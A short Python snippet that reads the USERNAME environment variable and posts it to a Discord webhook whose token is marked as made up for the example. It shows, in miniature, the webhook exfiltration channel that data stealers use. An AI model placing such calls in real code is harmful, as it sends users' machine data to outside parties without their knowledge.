import os

import requests

requests.post(
    "https://discord.com/api/webhooks/100000000000000001/made-up-token-for-the-example-only",
    json={"content": os.environ.get("USERNAME", "?")},
)
